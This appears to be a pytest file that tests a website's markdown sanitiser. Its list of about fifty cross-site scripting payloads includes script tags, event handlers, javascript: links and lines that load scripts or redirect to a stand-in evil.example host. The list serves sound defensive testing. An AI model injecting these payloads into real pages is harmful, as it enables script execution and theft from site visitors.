from collections import Counter
from html.parser import HTMLParser

import pytest

from heldout.site.common.markdown import render

# Each has run a script somewhere, in some renderer or browser.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="//x" style="position:fixed">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](file:///etc/passwd)",
    "[click][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![<b onmouseover=alert(1)>](x)",
    '![x](x "onerror=alert(1)")',
    "![x](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "* <svg onload=alert(1)>\n  > <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "{{ constructor.constructor('alert(1)')() }}{% debug %}",
]
# Allowed as they are made, so that an attack changes none of them.
HARMLESS = {"p", "em", "h2", "ul", "li", "blockquote", "pre", "code", "a"}
HARMLESS |= {"table", "thead", "tbody", "tr", "th", "td"}


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """What a browser would make of it, read by another parser than the one that cleaned it."""
    found = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attributes: found.append((tag, dict(attributes)))
    parser.feed(html)
    parser.close()
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_brings_no_code_into_a_page(attack):
    for tag, attributes in elements(render(attack)):
        assert tag in HARMLESS
        assert attributes.keys() <= {"href", "title", "rel"}
        assert attributes.get("href", "https:").startswith(("https:", "http:", "mailto:"))


def test_a_page_shows_all_attacks_as_words(client, challenge):
    """The whole overview of a challenge, with everything that is in the page around it."""
    before = Counter(tag for tag, _ in elements(client.get("/challenges/cats/").content.decode()))
    type(challenge.revision).objects.update(overview="\n\n".join(ATTACKS[:-1]))
    seen = elements(client.get("/challenges/cats/").content.decode())
    after = Counter(tag for tag, _ in seen)
    assert set((after - before).keys()) <= HARMLESS | {"h3"}
    assert not [one for _, one in seen if any(name.startswith("on") for name in one)]
    assert not [one for _, one in seen if "script:" in (one.get("href") or "").lower()]


def test_headings_stand_below_the_title_of_the_page():
    assert render("# Data\n\n## Where from") == "<h2>Data</h2>\n<h3>Where from</h3>\n"


def test_the_title_of_the_page_is_not_repeated():
    assert render("# Digits\n\nSay which.", title="Digits") == "<p>Say which.</p>\n"
    assert render("# Datasheet of digits", title="Datasheet") == ""
    assert render("# Digitsome", title="Digits") == "<h2>Digitsome</h2>\n"


def test_a_picture_is_its_description():
    assert render("![A *handwritten* seven](https://example.org/7.png)") == (
        "<p><em>A handwritten seven</em></p>\n"
    )


def test_links_and_tables_stay():
    html = render("[rules](/rules)\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert '<a href="/rules" rel="nofollow noopener">rules</a>' in html
    assert "<td>2</td>" in html
